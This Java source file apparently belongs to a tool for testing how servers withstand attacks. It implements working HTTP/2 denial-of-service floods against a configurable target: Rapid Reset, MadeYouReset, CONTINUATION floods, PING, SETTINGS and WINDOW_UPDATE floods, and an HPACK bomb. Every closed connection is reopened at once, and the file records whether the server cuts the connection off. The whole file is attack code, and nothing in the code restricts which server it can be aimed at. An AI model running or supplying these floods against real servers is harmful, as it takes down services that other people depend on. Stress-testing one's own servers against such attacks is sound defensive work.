package app.seventv.core.attacks;

import app.seventv.core.attacks.Attacker.Attack;
import app.seventv.core.attacks.Attacker.Target;
import app.seventv.core.attacks.Attacker.Until;
import app.seventv.core.http.RawHttp2Client;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Map;
import java.util.concurrent.CompletableFuture;

/** Floods and bombs of HTTP/2; every connection that is closed is replaced at once. */
final class Http2Attacks {
  private static final int HEADERS = 1;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;

  private static final int STEPS_PER_SECOND = 1_000;

  /** Longest flood on one connection; a server that has not closed it by then never will. */
  private static final int MAX_SECONDS = 5;

  private Http2Attacks() {}

  /** Writes the next frames of a flood on a connection. */
  private interface Flood {
    void step(RawHttp2Client client, int step) throws IOException;
  }

  static void addTo(Map<String, Attack> attacks) {
    attacks.put(
        "h2-rapid-reset",
        flood(
            STEPS_PER_SECOND,
            (client, step) -> {
              int stream = 2 * step + 1;
              client.request(stream, true, "GET", "/big"); // under way when it is reset
              client.reset(stream);
            }));
    attacks.put(
        "h2-made-you-reset",
        flood(
            STEPS_PER_SECOND,
            (client, step) -> {
              int stream = 2 * step + 1;
              client.request(stream, false, "POST", "/upload");
              client.windowUpdate(stream, 0); // RFC 9113 §6.9: a stream error
            }));
    attacks.put(
        "h2-continuation-flood",
        flood(
            STEPS_PER_SECOND,
            (client, step) -> {
              if (step == 0) {
                client.frame(HEADERS, END_STREAM, 1, client.block(":method", "GET"));
              } else {
                client.frame(CONTINUATION, 0, 1, client.block("x-" + step, "y"));
              }
            }));
    attacks.put(
        "h2-empty-continuation-flood",
        flood(
            STEPS_PER_SECOND,
            (client, step) -> {
              if (step == 0) {
                client.frame(HEADERS, END_STREAM, 1, client.block(":method", "GET"));
              } else {
                client.frame(CONTINUATION, 0, 1);
              }
            }));
    attacks.put(
        "h2-ping-flood",
        flood(STEPS_PER_SECOND, (client, step) -> client.frame(PING, 0, 0, new byte[8])));
    attacks.put(
        "h2-settings-flood",
        flood(STEPS_PER_SECOND, (client, step) -> client.frame(SETTINGS, 0, 0)));
    attacks.put(
        "h2-window-flood",
        flood(
            STEPS_PER_SECOND,
            (client, step) -> client.frame(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1})));
    attacks.put(
        "h2-hpack-bomb",
        flood(
            20,
            (client, step) ->
                client.frame(HEADERS, END_STREAM | END_HEADERS, 2 * step + 1, hpackBomb())));
  }

  /**
   * A large field put into the dynamic table once, then named thousands of times (RFC 7541 §7.3).
   */
  private static byte[] hpackBomb() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(new byte[] {(byte) 0x82, (byte) 0x84, (byte) 0x87}); // GET / https
    block.writeBytes(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0xa1, 0x1e}); // 4,000 bytes follow
    block.writeBytes(new byte[4000]);
    for (int i = 0; i < 12_000; i++) {
      block.write(0xbe); // the newest entry
    }
    return block.toByteArray();
  }

  private static Attack flood(int perSecond, Flood flood) {
    return (target, until) -> flood(target, until, perSecond, flood);
  }

  private static Map<String, Long> flood(Target target, Until until, int perSecond, Flood flood)
      throws Exception {
    long connections = 0;
    long cutOff = 0;
    long error = -1;
    // A connection that was begun in time is seen through: a cold attacker is slow at first.
    while (!until.over()) {
      connections++;
      try (RawHttp2Client client = RawHttp2Client.connect(target.plain(), false)) {
        CompletableFuture<Long> closed = new CompletableFuture<>();
        Thread.ofVirtual()
            .start(() -> {
              try {
                closed.complete(client.awaitClose());
              } catch (IOException e) {
                closed.complete(-1L);
              }
            });
        int step = 0;
        try {
          while (!closed.isDone()
              && (until.pace(perSecond) || (cutOff == 0 && step < MAX_SECONDS * perSecond))) {
            flood.step(client, step++);
          }
        } catch (IOException reset) {
          closed.join(); // the server has closed
        }
        if (closed.isDone()) {
          cutOff++;
          error = Math.max(error, closed.join());
        }
      } catch (IOException refused) {
        cutOff++; // before the first step
      }
    }
    return Map.of("connections", connections, "cut-off", cutOff, "error", error);
  }
}
